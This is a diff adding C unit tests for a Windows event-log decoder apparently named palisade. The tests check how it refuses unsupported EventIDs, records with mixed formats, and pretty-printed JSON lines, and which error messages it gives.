+}
+
+/* What is refused, with its reason. */
+static void test_refusals(void)
+{
+    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":4672,\"Channel\":\"Security\"},\"EventData\":{}}}"), -1);
+    CHECK_STR(ERR, "unsupported Security EventID 4672 (palisade maps 4688, 4689, 4624, 4625, 4648, 5156)");
+    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\"}}}"), -1);
+    CHECK_STR(ERR, "Sysmon EventID 1 record has no event data: no Event.EventData object with its fields "
+                   "(CommandLine, CurrentDirectory, ParentProcessGuid, ...)");
+    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\"},"
+                     "\"EventData\":{\"Data\":[\"x\",\"y\"]}}}"), -1);
+    CHECK_STR(ERR, "Sysmon EventID 1 record has no event data: Event.EventData holds none of its fields "
+                   "(CommandLine, CurrentDirectory, ParentProcessGuid, ...)");
+    CHECK_INT(decode("{\"Event\":{\"System\":{\"Channel\":\"Security\"},\"EventData\":{\"x\":1}}}"), -1);
+    CHECK_STR(ERR, "not a Windows event record: no EventID (Event.System.EventID)");
+    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":\"4688x\",\"Channel\":\"Security\"}}}"), -1);
+    CHECK_STR(ERR, "Event.System.EventID: expected an event number, got \"4688x\"");
+    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":70000,\"Channel\":\"Security\"}}}"), -1);
+    CHECK_STR(ERR, "Event.System.EventID: expected an event number, got a number");
+    CHECK_INT(decode("{\"EventID\":4103}"), -1);
+    CHECK_STR(ERR, "unsupported Sysmon EventID 4103 (palisade maps 1, 3, 5, 6, 7, 8, 10, 11, 12, 13, 14, 15, 17, 18, "
+                   "19, 20, 21, 22, 23, 24, 25, 26)");
+    CHECK_INT(decode("{\"winlog\":{\"channel\":\"System\",\"event_id\":104,\"event_data\":{}}}"), -1);
+    CHECK_STR(ERR, "unsupported System EventID 104 (palisade maps 7045)");
+    /* both layouts' keys: not guessed; forced, each reads its own */
+    const char *both = "{\"EventID\":1,\"Image\":\"C:\\\\a.exe\",\"Event\":{\"System\":{\"EventID\":3,"
+                       "\"Channel\":\"Microsoft-Windows-Sysmon/Operational\"},\"EventData\":{\"Image\":\"C:\\\\b.exe\"}}}";
+    CHECK_INT(decode(both), -1);
+    CHECK_STR(ERR, "line has both Winlogbeat keys (winlog.*, EventID) and an evtx_dump Event object: give "
+                   "--input-format sysmon or evtx-json");
+    CHECK_INT(decode_fmt(both, PAL_INPUT_SYSMON), 0);
+    CHECK_STR(S("process.name"), "a.exe");
+    CHECK_INT(decode_fmt(both, PAL_INPUT_EVTX), 0);
+    CHECK_STR(S("process.name"), "b.exe");
+    CHECK_INT(EV.kind, PK_NETWORK);
+    CHECK_INT(pal_input_format_from_name("evtx-json"), PAL_INPUT_EVTX);
+    /* an evtx line given as another format, and the reverse */
+    CHECK_INT(decode_fmt("{\"EventID\":1,\"Image\":\"C:\\\\a.exe\"}", PAL_INPUT_EVTX), -1);
+    CHECK_STR(ERR, "not a Windows event record: no EventID (Event.System.EventID)");
+}
+
+/* Pretty-printed documents: every piece gets the same advice. */
+static void test_pretty_printed(void)
+{
+    static const char *const pieces[][2] = {
+        {"{", "'{' alone"}, {"  [  ", "'[' alone"}, {"}", "'}' alone"}, {"},", "'}' alone"}, {"]", "']' alone"},
+        {"[{", "'[{' alone"}, {"  \"Event\": {", "one member of an object (\"key\": ...)"},
+        {"\"EventID\": 4688,", "one member of an object (\"key\": ...)"},
+        {"\"Na\\\"me\" : \"x\"", "one member of an object (\"key\": ...)"},
+        {"Record 1000", "evtx_dump's record header (\"Record N\")"},
+    };
+    for (size_t i = 0; i < sizeof pieces / sizeof pieces[0]; i++) {
+        CHECK_INT(decode(pieces[i][0]), -1);
+        char want[400];
+        snprintf(want, sizeof want, "line is %s, not a whole JSON object: this looks like pretty-printed (multi-line) "
+                 "JSON, and palisade reads one object per line", pieces[i][1]);
+        CHECK_STR(ERR, want);
+    }
+    /* what is not a piece keeps the plain message */
+    CHECK_INT(decode("Record x"), -1);
+    CHECK_STR(ERR, "line is not valid JSON at byte 1");
+    CHECK_INT(decode("{\"a\":"), -1);
+    CHECK_STR(ERR, "line is not valid JSON at byte 5");
+    CHECK_INT(decode("\"just a string"), -1);
+    CHECK_STR(ERR, "line is not valid JSON at byte 2");
+    CHECK_INT(decode("[{\"EventID\":1},{\"EventID\":3}]"), -1);
+    CHECK_STR(ERR, "line is an array of objects, not a JSON object: write one event object per line (`jq -c '.[]' "
+                   "FILE` does)");
+    CHECK_INT(decode("[1,2]"), -1);
+    CHECK_STR(ERR, "line is an array, not a JSON object: write one event object per line");
+}
+
+int main(void)
+{
+    pal_arena_init(&A, 0);
+    test_three_layouts();
+    test_mapping();
+    test_conversions();
+    test_refusals();
+    test_pretty_printed();
+    pal_arena_free(&A);
+    return unit_result("test_decode_windows");
+}
